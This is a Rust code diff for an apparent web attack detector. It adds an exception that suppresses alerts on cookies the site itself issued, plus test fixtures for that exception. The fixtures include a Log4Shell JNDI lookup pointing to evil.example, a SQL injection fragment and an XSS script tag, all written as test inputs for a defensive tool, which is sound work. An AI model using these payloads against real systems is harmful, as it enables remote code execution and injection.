@@ -57,11 +57,13 @@ pub enum Example {
     Referer(&'static str),
     /// The header field Cookie of a request.
     Cookie(&'static str),
+    /// The same, of cookies that the site has issued.
+    IssuedCookie(&'static str),
     /// The body of a response.
     Page(&'static str),
 }
 
-use Example::{Body, Cookie, Json, Page, Query, Referer};
+use Example::{Body, Cookie, IssuedCookie, Json, Page, Query, Referer};
 
 /// The table.
 pub const EXCEPTIONS: &[Exception] = &[
@@ -240,6 +242,16 @@ pub const EXCEPTIONS: &[Exception] = &[
         why: "the request of that page was judged by itself",
         benign: Referer("http://shop.example/s?q=x%27+or+1%3D1--+-"),
         attack: Referer("http://shop.example/s?q=%3Cscript%3Ealert(1)%3C/script%3E"),
+    },
+    Exception {
+        id: "issued-cookie",
+        classes: &[],
+        effect: Suppresses,
+        what: "a cookie that an answer of the site has set to this value",
+        but: "lookups of Log4j and serialised objects; cookies that another one has the name of",
+        why: "the application wrote it; lookups and objects act in whoever reads the cookie",
+        benign: IssuedCookie("theme=dark; last_page=http://10.0.0.5:9090/metrics"),
+        attack: IssuedCookie("theme=dark; lang=${jndi:ldap://evil.example/a}"),
     },
     Exception {
         id: "harmless-file",
@@ -669,12 +681,22 @@ pub fn markdown() -> String {
 
 #[cfg(test)]
 mod tests {
-    use std::sync::LazyLock;
+    use std::sync::{Arc, LazyLock};
 
     use super::*;
     use crate::{Analysis, Detectors, Level};
 
     static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);
+
+    /// A site that has issued every cookie.
+    #[derive(Debug)]
+    struct All;
+
+    impl crate::Issuer for All {
+        fn has_issued(&self, _: &[u8], _: &[u8]) -> bool {
+            true
+        }
+    }
 
     impl Example {
         /// The ids of the exceptions that suppress something in it, and whether it is blocked.
@@ -696,6 +718,11 @@ mod tests {
                     analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
                 }
                 Cookie(cookies) => {
+                    let fields = [(&b"Cookie"[..], cookies.as_bytes())];
+                    analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
+                }
+                IssuedCookie(cookies) => {
+                    analysis.set_issuer(Arc::new(All));
                     let fields = [(&b"Cookie"[..], cookies.as_bytes())];
                     analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
                 }
